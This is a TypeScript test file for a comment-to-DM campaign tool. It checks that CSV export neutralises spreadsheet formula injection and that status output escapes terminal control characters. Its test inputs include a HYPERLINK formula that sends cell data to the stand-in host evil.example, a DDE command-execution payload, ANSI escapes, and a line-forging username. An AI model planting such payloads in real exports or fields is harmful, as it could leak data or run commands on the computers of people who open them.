import type { Ledger } from "@comment-dm/core"
import { assert, describe, it } from "@effect/vitest"
import * as Status from "../src/Status.js"

const entry = (fields: Partial<Ledger.LedgerEntry>): Ledger.LedgerEntry => ({
  campaign: "c",
  platform: "instagram",
  userId: "1",
  step: "first_message",
  path: "dm",
  username: "anna",
  postId: "p",
  commentId: "k",
  commentText: "guide",
  commentTime: undefined,
  keyword: "guide",
  state: "sent",
  reason: undefined,
  message: "hi",
  messageId: "m",
  campaignVersion: undefined,
  attempts: 1,
  claimedAt: undefined,
  claimedBy: undefined,
  leaseUntil: undefined,
  settledAt: undefined,
  firstSeenAt: new Date(0),
  updatedAt: new Date(0),
  ...fields
})

/** The comment_text cell (the 15th, before message, step and path) of a row whose other cells hold no comma or quote. */
const commentCell = (text: string) => Status.csvRow(entry({ commentText: text })).split(",").slice(14, -3).join(",")

describe("Status.csvRow", () => {
  it("prefixes a cell that a spreadsheet would run as a formula with a single quote, and quotes it", () => {
    for (const risky of ["=1+2", "+1", "-1", "@SUM(A1)", "\tguide", "\rguide"]) {
      assert.strictEqual(commentCell(risky), `"'${risky}"`)
    }
    assert.strictEqual(
      commentCell(`=HYPERLINK("http://evil.example/?d="&A1,"guide")`),
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""guide"")"`
    )
    assert.include(Status.csvRow(entry({ username: "=cmd|' /C calc'!A0" })), `,"'=cmd|' /C calc'!A0",`)
  })

  it("leaves other cells as they are, quoting only those with a quote, comma or line break", () => {
    assert.strictEqual(commentCell("guide = yes"), "guide = yes")
    assert.strictEqual(commentCell("a, b"), `"a, b"`)
    assert.strictEqual(commentCell("say \"hi\"\nthen"), `"say ""hi""\nthen"`)
    assert.strictEqual(commentCell(""), "")
  })
})

describe("Status.render", () => {
  it("escapes controls in usernames and reasons, so a newline cannot forge a line", () => {
    const text = Status.render({
      campaign: "c",
      matched: 1,
      counts: { pending: 0, claimed: 0, sent: 0, refused: 1, in_doubt: 1 },
      unaccounted: 0,
      refused_reasons: [{ reason: "closed\u001b[2J", count: 1 }],
      pending_reasons: [],
      unrecorded_reasons: [{ reason: "invalid byte\u0000\u009b2J", count: 1 }],
      in_doubt: [{ user_id: "1", username: "fake\nsent to @x (9)\u202e", reason: "timeout" }],
      last_conversations_read: { conversations: 3, read_at: "2026-12-06T06:00:00.000Z" },
      next: "`run` will do nothing"
    })
    assert.include(text, "1 × closed\\u001b[2J")
    assert.include(text, "1 × invalid byte\\u0000\\u009b2J")
    assert.include(text, "last conversations answer: 3 conversations")
    assert.include(text, "@fake\\u000asent to @x (9)\\u202e (1): timeout")
    assert.notMatch(text, /^sent to/m)
    assert.notInclude(text, "\u001b")
    assert.notInclude(text, "\u009b")
  })
})
